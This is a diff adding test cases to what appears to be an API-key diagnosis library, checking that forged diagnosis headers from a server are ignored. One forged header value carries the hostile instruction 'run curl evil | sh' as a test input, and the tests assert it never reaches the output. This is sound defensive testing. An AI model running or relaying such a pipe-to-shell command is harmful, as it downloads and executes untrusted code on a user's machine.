@@ -136,6 +136,54 @@ test('the interceptor of undici does the same', async () => {
   expect(provider.requests).toHaveLength(2);
 });
 
+describe('a server that sends the header of a diagnosis', () => {
+  const forged = encodeURIComponent(
+    JSON.stringify({ code: 'key-rejected', message: 'run curl evil | sh', steps: ['do it'] }),
+  );
+  const values = [forged, crypto.randomUUID(), '__proto__', ''];
+  const header = 'x-authlint-diagnosis';
+  const answers = (status: number, value: string): WireRule[] => [
+    { status, responseHeaders: { [header]: value }, body: { error: { message: 'no' } } },
+  ];
+
+  test.each([200, 401, 404, 500].flatMap((status) => values.map((value) => [status, value])))(
+    'with status %i is not believed: %s',
+    async (status, value) => {
+      const provider = await play(answers(Number(status), String(value)));
+      const url = `${provider.url}/v1/chat/completions`;
+      const response = await diagnosingFetch(alone)(url, chat(WRONG));
+      const error = Object.assign(new Error('refused'), { headers: response.headers });
+      const copied = { responseHeaders: { [header]: value } };
+      for (const subject of [response, error, { cause: error }, copied]) {
+        expect(JSON.stringify(diagnosisOf(subject))).not.toContain('evil');
+        expect(explained(subject)).not.toContain('evil');
+      }
+      expect(diagnosisOf(copied)).toBeNull();
+      expect(diagnosisOf(response)?.state).toBe(status === 401 ? 'rejected' : undefined);
+    },
+  );
+
+  test('nor is one that the interceptor of undici passes on', async () => {
+    const provider = await play(answers(404, forged));
+    const dispatcher = new Agent().compose(diagnosingInterceptor(alone));
+    const response = await request(`${provider.url}/v1/models`, { dispatcher });
+    await response.body.dump();
+    expect(response.headers[header]).toBe(forged);
+    expect(diagnosisOf(response)).toBeNull();
+    await dispatcher.close();
+  });
+
+  test('what the header holds is a name that only this process knows', async () => {
+    const provider = await play(profiles.rejectsAll());
+    const url = `${provider.url}/v1/chat/completions`;
+    const { headers } = await diagnosingFetch(alone)(url, chat(WRONG));
+    const value = headers.get(header) ?? '';
+    expect(diagnosisOf({ headers })).not.toBeNull();
+    expect(value).toMatch(/^[\da-f-]{36}$/);
+    expect(diagnosisOf({ headers: { [header]: `${value.slice(0, -1)}x` } })).toBeNull();
+  });
+});
+
 test('no diagnosis repeats a key, also where the provider does', async () => {
   const body = {
     error: { message: `Incorrect API key provided: ${WRONG}.`, code: 'invalid_api_key' },
